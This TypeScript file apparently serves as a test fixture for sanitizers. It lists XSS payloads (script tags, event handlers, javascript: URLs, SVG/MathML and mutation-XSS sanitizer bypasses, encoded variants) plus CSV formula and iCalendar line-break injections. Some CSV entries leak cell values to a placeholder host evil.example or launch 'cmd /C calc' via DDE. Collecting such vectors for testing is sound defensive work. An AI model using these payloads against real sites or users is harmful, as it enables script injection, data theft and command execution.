/**
 * Hostile strings for every text an editor or an import can write: what a
 * browser, a spreadsheet or a calendar client could be made to run or
 * misread. Drawn from the OWASP XSS filter evasion cheat sheet, the
 * mutation-XSS write-ups against HTML sanitizers, and the CSV and iCalendar
 * injection notes; `kind` says what each one aims at.
 */
export interface XssVector {
  kind: 'html' | 'attribute' | 'url' | 'css' | 'svg-mathml' | 'mutation' | 'encoded' | 'csv' | 'ics'
  payload: string
}

const html = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<script/src=data:,alert(1)></script>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=# onmouseover="alert(\'xss\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<body onload=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<div onpointerover="alert(1)">hover</div>',
  '<p onclick=alert(1)>click</p>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
]

const attribute = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  '`onmouseover=alert(1)',
  '</h3><script>alert(1)</script><h3>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '"/><svg/onload=alert(1)>',
  '" style="x:expression(alert(1))',
  '\u0000<script>alert(1)</script>',
]

const url = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//xss.example/">x</a>',
  '<a href="https:javascript:alert(1)">x</a>',
  '<a href="mailto:x@example.org?body=<script>alert(1)</script>">x</a>',
  'javascript:alert(document.cookie)',
  'data:text/html,<script>alert(1)</script>',
]

const css = [
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-image: url(&quot;javascript:alert(1)&quot;)">x</p>',
  '<p style="behavior: url(xss.htc)">x</p>',
  '<p style="-moz-binding: url(https://xss.example/xss.xml#xss)">x</p>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="x:\\65xpression(alert(1))">x</p>',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</li></UL>',
]

const svgMathml = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
]

// Markup that a sanitizer's parser and the browser's read differently, or that changes when serialized and read again.
const mutation = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<p><a href="https://ok.example/"><p>nested</a></p><img src=x onerror=alert(1)>',
  '<a href="https://ok.example/">x<a href="javascript:alert(1)">y</a></a>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>',
  '<strong><em>unclosed <a href="https://ok.example/" title="</em><img src=x onerror=alert(1)>">',
  '<blockquote><svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg></blockquote>',
  '<ul><li><select><template><style><!--</style><img src=x onerror=alert(1)>--></template></select></li></ul>',
]

const encoded = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '<ScRiPt>alert(1)</sCrIpT>',
  '＜script＞alert(1)＜/script＞',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u202e>tpircs/<)1(trela>tpircs<',
]

// A spreadsheet runs a cell that starts with = + - @ (and, in some, a tab or carriage return) as a formula.
const csv = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
  "-2+3+cmd|' /C calc'!A0",
  '"=1+1","=2+2"',
  'a,"b\r\n=HYPERLINK(""https://evil.example"")',
  '=DDE("cmd";"/C calc";"!A0")A0',
]

// An iCalendar property ends at a line break: one in a text would start a property of its own.
const ics = [
  'Workshop\r\nATTENDEE;CN=Evil:mailto:evil@example.org',
  'Workshop\nBEGIN:VALARM\nTRIGGER:-PT1M\nACTION:AUDIO\nEND:VALARM',
  'Workshop\rX-INJECTED:1',
  'Workshop\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected event\r\nDTSTART:20260101T000000Z',
  'Workshop\r\n ORGANIZER:mailto:evil@example.org',
  'a;b,c\\nd:e',
  'Workshop\u2028X-INJECTED:2\u2029X-INJECTED:3',
  'Workshop\u0085X-INJECTED:4\u000bX-INJECTED:5',
  'Workshop\r\nURL:javascript:alert(1)',
]

export const XSS_VECTORS: readonly XssVector[] = [
  ...html.map((payload) => ({ kind: 'html' as const, payload })),
  ...attribute.map((payload) => ({ kind: 'attribute' as const, payload })),
  ...url.map((payload) => ({ kind: 'url' as const, payload })),
  ...css.map((payload) => ({ kind: 'css' as const, payload })),
  ...svgMathml.map((payload) => ({ kind: 'svg-mathml' as const, payload })),
  ...mutation.map((payload) => ({ kind: 'mutation' as const, payload })),
  ...encoded.map((payload) => ({ kind: 'encoded' as const, payload })),
  ...csv.map((payload) => ({ kind: 'csv' as const, payload })),
  ...ics.map((payload) => ({ kind: 'ics' as const, payload })),
]
